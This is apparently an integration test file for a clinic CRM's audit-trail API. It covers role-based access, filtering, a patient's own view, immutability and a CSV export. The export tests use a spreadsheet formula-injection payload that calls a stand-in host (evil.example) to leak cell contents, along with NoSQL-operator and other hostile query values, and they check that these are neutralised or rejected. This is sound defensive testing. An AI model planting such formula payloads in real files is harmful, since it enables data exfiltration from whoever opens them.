import type { AuditEntryView, AuditPage, MyAuditPage, Role } from '@crm/contracts';
import { eventually, mintToken, uniqueId } from '@crm/testing';
import { BOOTSTRAP, startStack, type Stack } from '../../../test-support/stack';
import { startProducer, type Producer } from '../../../test-support/audit-producer';

/**
 * The trail's three calls through the gateway, on entries recorded the way every service records
 * them (a producer's own audit_outbox and relay): who may call what, every filter, the patient's
 * own view, the CSV export (escaped, itself recorded), and that nothing can change or delete it.
 */
let stack: Stack;
let producer: Producer;
let admin: string;
let adminId: string;
const token = (rol: Role, id = uniqueId()) => mintToken({ id, rol });

// Staff, two patients (and a third one); entries spread over two summer days of 2024, when the
// Canaries are at UTC+1.
const doctor = { id: uniqueId(), name: 'Dra. Lucía Núñez' };
const nurse = { id: uniqueId(), name: 'Álvaro Peña' };
const kiosk = { id: uniqueId(), name: 'Kiosko de entrada' };
const ana = uniqueId();
const ben = uniqueId();
const other = uniqueId();

beforeAll(async () => {
  stack = await startStack({ components: ['auth', 'audit'] });
  producer = await startProducer({
    mongoUrl: stack.mongoUrl,
    // A service that records accesses: the audit service accepts entries only from those.
    amqpUrl: stack.busUrl('records'),
    exchange: stack.exchange,
  });
  admin = await stack.signIn(BOOTSTRAP.admin.email, BOOTSTRAP.admin.password);
  adminId = (await stack.api.get('/auth/currentUser', admin)).body.id;
  const at = (iso: string) => new Date(iso);
  await producer.trail.record(
    {
      actorId: doctor.id,
      actorName: doctor.name,
      actorRol: 'DOCTOR',
      action: 'record.read',
      resource: 'record',
      resourceId: uniqueId(),
      patientIds: [ana],
      at: at('2024-06-01T08:30:00Z'),
    },
    {
      actorId: doctor.id,
      actorName: doctor.name,
      actorRol: 'DOCTOR',
      action: 'appointment.list',
      resource: 'appointment',
      patientIds: [ana, ben],
      at: at('2024-06-01T22:30:00Z'),
    },
    {
      actorId: nurse.id,
      actorName: nurse.name,
      actorRol: 'ADMIN',
      action: 'record.update',
      resource: 'record',
      resourceId: uniqueId(),
      patientIds: [ben],
      at: at('2024-06-02T10:00:00Z'),
      outcome: 'success',
    },
    {
      actorId: kiosk.id,
      actorName: kiosk.name,
      actorRol: 'SERVICE_ACCOUNT',
      action: 'user.read',
      resource: 'user',
      patientIds: [ana],
      at: at('2024-06-02T11:00:00Z'),
    },
    {
      actorId: ana,
      actorName: 'Ana',
      actorRol: 'PACIENT',
      action: 'appointment.read',
      resource: 'appointment',
      patientIds: [ana],
      at: at('2024-06-02T12:00:00Z'),
    },
    {
      actorId: nurse.id,
      actorName: nurse.name,
      actorRol: 'ADMIN',
      action: 'config.view.update',
      resource: 'view-config',
      resourceId: 'doctor/appointments/:id',
      at: at('2024-06-02T13:00:00Z'),
    },
    {
      actorId: uniqueId(),
      actorRol: 'DOCTOR',
      actorName: 'Otro',
      action: 'record.read',
      resource: 'record',
      patientIds: [other],
      at: at('2024-06-02T14:00:00Z'),
    },
  );
  // 8 rows: the list names two patients; the configuration change names none.
  await eventually(
    async () => {
      const page = await stack.api.get<AuditPage>('/audit?from=2024-06-01&to=2024-06-02&limit=100', admin);
      return page.body.total >= 8 ? true : undefined;
    },
    20_000,
    'the entries to reach the trail',
  );
}, 90_000);

afterAll(async () => {
  await producer?.stop();
  await stack?.stop();
});

const search = (query: string, caller = admin) => stack.api.get<AuditPage>(`/audit?${query}`, caller);
const actions = (entries: AuditEntryView[]) => entries.map((e) => `${e.action}:${e.patientId ?? '-'}`);

describe('who may read the trail', () => {
  it.each([
    ['/audit', { anonymous: 401, PACIENT: 403, DOCTOR: 403, SERVICE_ACCOUNT: 403, ADMIN: 200 }],
    ['/audit/export.csv', { anonymous: 401, PACIENT: 403, DOCTOR: 403, SERVICE_ACCOUNT: 403, ADMIN: 200 }],
    ['/audit/mine', { anonymous: 401, PACIENT: 200, DOCTOR: 403, SERVICE_ACCOUNT: 403, ADMIN: 403 }],
  ] as const)('GET %s answers each kind of caller as expected', async (path, expected) => {
    const answers: Record<string, number> = {};
    for (const caller of Object.keys(expected) as Array<keyof typeof expected>) {
      const auth = caller === 'anonymous' ? undefined : caller === 'ADMIN' ? admin : token(caller);
      const query = path === '/audit/mine' ? '' : `?actorId=${uniqueId()}`;
      answers[caller] = (await stack.api.get(`${path}${query}`, auth)).status;
    }
    expect(answers).toEqual(expected);
  });

  it.each(['PUT', 'PATCH', 'DELETE', 'POST'])(
    'has no %s on any trail path: the trail cannot be changed',
    async (method) => {
      for (const path of ['/audit', '/audit/mine', '/audit/export.csv', `/audit/${uniqueId()}`]) {
        const response = await fetch(`${stack.gatewayUrl}/api/v1${path}`, {
          method,
          headers: { authorization: `Bearer ${admin}`, 'content-type': 'application/json' },
          body: method === 'DELETE' ? undefined : '{}',
        });
        expect([method, path, response.status]).toEqual([method, path, 404]);
      }
    },
  );
});

describe('GET /audit (ADMIN)', () => {
  it('filters by patient, newest first, one row per patient named', async () => {
    const page = await search(`patientId=${ana}`);
    expect(page.status).toBe(200);
    expect(actions(page.body.entries)).toEqual([
      `appointment.read:${ana}`,
      `user.read:${ana}`,
      `appointment.list:${ana}`,
      `record.read:${ana}`,
    ]);
    expect(page.body).toMatchObject({ total: 4, page: 1, totalPages: 1, limit: 20 });
    expect(page.body.entries[3]).toEqual({
      at: '2024-06-01T08:30:00.000Z',
      actorId: doctor.id,
      actorName: doctor.name,
      actorRol: 'DOCTOR',
      action: 'record.read',
      patientId: ana,
      resource: 'record',
      resourceId: expect.any(String),
      requestId: null,
      clientRequestId: null,
      clientAddress: null,
      outcome: null,
      reason: null,
    });
  });

  it('filters by actor, by action, and by both', async () => {
    expect(actions((await search(`actorId=${doctor.id}`)).body.entries)).toEqual([
      `appointment.list:${ben}`,
      `appointment.list:${ana}`,
      `record.read:${ana}`,
    ]);
    expect(actions((await search(`actorId=${nurse.id}`)).body.entries)).toEqual([
      'config.view.update:-',
      `record.update:${ben}`,
    ]);
    const reads = await search('action=record.read&from=2024-06-01&to=2024-06-02');
    expect(actions(reads.body.entries)).toEqual([`record.read:${other}`, `record.read:${ana}`]);
    expect(actions((await search(`action=record.read&actorId=${doctor.id}`)).body.entries)).toEqual([
      `record.read:${ana}`,
    ]);
  });

  it('filters by dates: whole days in the centre’s time zone, or exact instants', async () => {
    // 2024-06-01T22:30Z is 23:30 on 1 June in the Canaries: still the 1st.
    const first = await search(`from=2024-06-01&to=2024-06-01&actorId=${doctor.id}`);
    expect(first.body.total).toBe(3);
    const second = await search(`from=2024-06-02&to=2024-06-02&patientId=${ana}`);
    expect(actions(second.body.entries)).toEqual([`appointment.read:${ana}`, `user.read:${ana}`]);
    const instants = await search(
      `from=${encodeURIComponent('2024-06-02T10:00:00Z')}&to=${encodeURIComponent('2024-06-02T11:00:00Z')}`,
    );
    expect(actions(instants.body.entries)).toEqual([`record.update:${ben}`]);
  });

  it('finds staff by part of their name, ignoring case and accents, taken literally', async () => {
    expect((await search('search=alvaro&from=2024-06-01&to=2024-06-02')).body.total).toBe(2);
    expect((await search('search=NUÑEZ&from=2024-06-01&to=2024-06-02')).body.total).toBe(3);
    expect((await search(`search=${encodeURIComponent('.*')}`)).body.total).toBe(0);
  });

  it('pages with page and limit (capped at 100)', async () => {
    const first = await search(`patientId=${ana}&limit=3`);
    const second = await search(`patientId=${ana}&limit=3&page=2`);
    expect(first.body).toMatchObject({ total: 4, totalPages: 2, page: 1, limit: 3 });
    expect(first.body.entries).toHaveLength(3);
    expect(second.body.entries).toHaveLength(1);
    expect((await search('limit=100000')).body.limit).toBe(100);
  });

  it.each([
    ['patientId=juan%20p%C3%A9rez', 'patientId', 'El identificador del paciente no es válido'],
    ['actorId=%24ne', 'actorId', 'El identificador del usuario no es válido'],
    ['action=DROP', 'action', 'La acción no es válida'],
    ['from=ayer', 'from', 'La fecha no es válida (AAAA-MM-DD o fecha y hora ISO con zona)'],
    ['to=2026-02-30', 'to', 'La fecha no es válida (AAAA-MM-DD o fecha y hora ISO con zona)'],
    ['from=2024-06-03&to=2024-06-01', 'from', 'La fecha inicial debe ser anterior a la final'],
    ['page=0', 'page', 'El número de página no es válido'],
    ['limit=abc', 'limit', 'El tamaño de página no es válido'],
    ['patient=x', undefined, 'Parámetro de consulta no permitido'],
    ['patientId=a&patientId=b', 'patientId', 'El identificador del paciente no es válido'],
  ])('refuses %s with 400 and a Spanish message', async (query, field, message) => {
    const response = await stack.api.get<{ message: string; errors: Array<{ field?: string }> }>(
      `/audit?${query}`,
      admin,
    );
    expect(response.status).toBe(400);
    expect(response.body.message).toBe(message);
    expect(response.body.errors[0]!.field).toBe(field);
  });
});

describe('GET /audit/mine (PACIENT)', () => {
  it('shows a patient who on the staff read or changed their data — names and roles, never ids, never another patient’s', async () => {
    const mine = await stack.api.get<MyAuditPage>('/audit/mine', token('PACIENT', ana));
    expect(mine.status).toBe(200);
    expect(mine.body).toEqual({
      entries: [
        {
          at: '2024-06-02T11:00:00.000Z',
          actorName: kiosk.name,
          actorRol: 'SERVICE_ACCOUNT',
          action: 'user.read',
          resource: 'user',
        },
        {
          at: '2024-06-01T22:30:00.000Z',
          actorName: doctor.name,
          actorRol: 'DOCTOR',
          action: 'appointment.list',
          resource: 'appointment',
        },
        {
          at: '2024-06-01T08:30:00.000Z',
          actorName: doctor.name,
          actorRol: 'DOCTOR',
          action: 'record.read',
          resource: 'record',
        },
      ],
      total: 3,
      page: 1,
      totalPages: 1,
      limit: 20,
    });
    const bens = await stack.api.get<MyAuditPage>('/audit/mine', token('PACIENT', ben));
    expect(bens.body.entries.map((e) => e.action)).toEqual(['record.update', 'appointment.list']);
    const stranger = await stack.api.get<MyAuditPage>('/audit/mine', token('PACIENT'));
    expect(stranger.body).toMatchObject({ entries: [], total: 0 });
  });

  it('cannot be widened to another patient with a query parameter', async () => {
    const response = await stack.api.get(`/audit/mine?patientId=${ben}`, token('PACIENT', ana));
    expect(response.status).toBe(400);
    expect(response.body.message).toBe('Parámetro de consulta no permitido');
  });
});

describe('GET /audit/export.csv (ADMIN)', () => {
  const evil = { id: uniqueId(), name: '=HYPERLINK("http://evil.example/?x="&A1,"Ver")' };
  const evilPatient = uniqueId();

  beforeAll(async () => {
    await producer.trail.record(
      {
        actorId: evil.id,
        actorName: evil.name,
        actorRol: 'DOCTOR',
        action: 'record.read',
        resource: 'record',
        patientIds: [evilPatient],
      },
      {
        actorId: evil.id,
        actorName: '+34 600 000 000',
        actorRol: 'DOCTOR',
        action: 'record.read',
        resource: 'record',
      },
      { actorId: evil.id, actorName: '-2+3', actorRol: 'DOCTOR', action: 'record.read', resource: 'record' },
      {
        actorId: evil.id,
        actorName: '@SUM(1,1)',
        actorRol: 'DOCTOR',
        action: 'record.read',
        resource: 'record',
      },
    );
    await eventually(
      async () => ((await search(`actorId=${evil.id}`)).body.total === 4 ? true : undefined),
      15_000,
      'the hostile entries',
    );
  });

  it('downloads the filtered rows as an Excel-ready attachment with formulas neutralised', async () => {
    const response = await fetch(`${stack.gatewayUrl}/api/v1/audit/export.csv?actorId=${evil.id}`, {
      headers: { authorization: `Bearer ${admin}` },
    });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(
      /^attachment; filename="registro-de-accesos-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes).slice(1);
    const lines = text.split('\r\n');
    expect(lines[0]).toBe(
      'fecha;id_usuario;nombre_usuario;rol;accion;id_paciente;recurso;id_recurso;id_peticion;direccion_cliente;resultado;id_peticion_cliente;motivo',
    );
    expect(lines.at(-1)).toBe('');
    expect(lines).toHaveLength(6);
    // Every dangerous cell starts with a single quote (inside the CSV quotes where it needs them),
    // so a spreadsheet shows it as text and never evaluates it.
    const names = lines.slice(1, -1).map((line) => line.split(';')[2]);
    expect(names.sort()).toEqual([
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Ver"")"`,
      `"'@SUM(1,1)"`,
      `'+34 600 000 000`,
      `'-2+3`,
    ]);
    expect(text).toContain(`;DOCTOR;record.read;${evilPatient};record;`);
    for (const line of lines.slice(1, -1)) expect(line).not.toMatch(/(^|;)"?[=+\-@\t\r]/);
  });

  it('records the export itself, about the patients it names', async () => {
    await fetch(`${stack.gatewayUrl}/api/v1/audit/export.csv?patientId=${evilPatient}`, {
      headers: { authorization: `Bearer ${admin}`, 'x-request-id': 'export-req-1' },
    });
    const recorded = await eventually(
      async () => {
        // The previous test's export (by actor) named this patient too: look for this one's request.
        const page = await search(`action=audit.export&patientId=${evilPatient}`);
        return page.body.entries.find((entry) => entry.clientRequestId === 'export-req-1');
      },
      15_000,
      'the export’s own entry',
    );
    expect(recorded).toMatchObject({
      actorId: adminId,
      actorRol: 'ADMIN',
      action: 'audit.export',
      resource: 'audit-trail',
      patientId: evilPatient,
      clientRequestId: 'export-req-1',
      outcome: 'success',
    });
    // …which the patient can see too.
    const mine = await stack.api.get<MyAuditPage>('/audit/mine', token('PACIENT', evilPatient));
    expect(mine.body.entries.map((e) => e.action)).toContain('audit.export');
  });

  it('records an admin’s read of the trail, naming the patient looked at without adding rows to their trail', async () => {
    const before = (await search(`patientId=${ana}`)).body.total;
    const read = await fetch(`${stack.gatewayUrl}/api/v1/audit?patientId=${ana}`, {
      headers: { authorization: `Bearer ${admin}`, 'x-request-id': 'read-req-1' },
    });
    expect(read.status).toBe(200);
    const recorded = await eventually(
      async () =>
        (await search('action=audit.read')).body.entries.find(
          (entry) => entry.clientRequestId === 'read-req-1',
        ),
      15_000,
      'the read’s own entry',
    );
    expect(recorded).toMatchObject({
      actorId: adminId,
      actorRol: 'ADMIN',
      action: 'audit.read',
      resource: 'audit-trail',
      resourceId: ana,
      patientId: null,
      outcome: 'success',
    });
    expect((await search(`patientId=${ana}`)).body.total).toBe(before);
  });

  it('refuses bad filters like the search does', async () => {
    const response = await stack.api.get('/audit/export.csv?from=mañana', admin);
    expect(response.status).toBe(400);
    expect(response.body.message).toMatch(/^La fecha no es válida/);
  });
});
